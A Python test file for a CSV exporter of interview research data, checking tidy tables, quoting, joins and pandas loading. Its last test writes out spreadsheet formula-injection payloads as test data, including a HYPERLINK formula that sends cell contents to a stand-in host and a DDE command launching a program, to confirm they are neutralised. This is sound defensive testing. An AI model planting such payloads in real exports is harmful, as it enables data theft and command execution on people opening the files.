"""CSV export: tidy tables that load without cleaning and join on their keys."""

from __future__ import annotations

import csv

import pytest

from core.coordinator.aggregate import aggregate_interviews
from core.reports.csv_export import write_csv
from tests.helpers.coordinator_data import make_corpus, typed


def _read(path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no BOM: R would glue it to the first column name
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_tables_are_tidy_and_join(tmp_path):
    corpus = make_corpus(6)
    corpus[0]["segments"][1]["text"] = 'He said "fine",\nthen left, again.'
    agg = aggregate_interviews(typed(corpus), site="SITE-A")
    paths = write_csv(agg, tmp_path / "csv")
    assert sorted(p.name for p in paths) == ["answers.csv", "interviews.csv", "segments.csv",
                                             "tags.csv", "themes.csv"]
    interviews = _read(tmp_path / "csv" / "interviews.csv")
    answers = _read(tmp_path / "csv" / "answers.csv")
    tags = _read(tmp_path / "csv" / "tags.csv")
    segments = _read(tmp_path / "csv" / "segments.csv")
    assert len(interviews) == agg.n_interviews == 2
    assert len({r["packet_id"] for r in interviews}) == 2  # one row per interview
    assert {(r["packet_id"], r["question_id"]) for r in answers}.__len__() == len(answers)
    assert sum(int(r["n_tags"]) for r in interviews) == len(tags)
    assert sum(int(r["n_answers"]) for r in interviews) == len(answers)
    ids = {r["packet_id"] for r in interviews}
    assert {r["packet_id"] for r in tags} <= ids and {r["packet_id"] for r in answers} <= ids
    assert {r["consent_witnessed"] for r in interviews} <= {"true", "false"}
    assert all(r["month"].startswith("2025-") for r in interviews)
    # every line is one row: quotes escaped, line breaks folded
    lines = (tmp_path / "csv" / "segments.csv").read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(segments) + 1
    assert any(r["text"] == 'He said "fine", then left, again.' for r in segments)
    # span tags carry the coded passage, whole-segment tags the segment
    for row in tags:
        assert row["passage"]
        if row["start_char"]:
            assert int(row["end_char"]) - int(row["start_char"]) == len(row["passage"])


def test_tables_load_in_pandas_without_cleaning(tmp_path):
    pd = pytest.importorskip("pandas")
    write_csv(typed(make_corpus(5)), tmp_path)
    iv = pd.read_csv(tmp_path / "interviews.csv")
    assert iv["consent_witnessed"].dtype == bool
    assert iv["n_tags"].dtype.kind == "i"
    tags = pd.read_csv(tmp_path / "tags.csv")
    assert tags.merge(iv, on="packet_id").shape[0] == len(tags)


def test_formula_cells_are_neutralised(tmp_path):
    """A participant's words (or a hostile packet) must not run in the coordinator's spreadsheet."""
    corpus = make_corpus(2)
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
               "\t=1+1", "\r=1+1"]
    for seg, text in zip(corpus[0]["segments"], attacks, strict=False):
        seg["text"] = text
    corpus[0]["interview"]["site"] = "=cmd|' /C calc'!A0"
    paths = write_csv(aggregate_interviews(typed(corpus)), tmp_path / "csv")
    for path in paths:
        for row in _read(path):
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, value)
    texts = [r["text"] for r in _read(tmp_path / "csv" / "segments.csv")]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in texts and "'+1+2" in texts
    assert "'=1+1" in texts  # the leading CR was folded away, then the formula neutralised
    sites = {r["site"] for r in _read(tmp_path / "csv" / "interviews.csv")}
    assert "'=cmd|' /C calc'!A0" in sites
    # numbers stay numbers
    assert all(r["start_ms"].isdigit() for r in _read(tmp_path / "csv" / "segments.csv"))
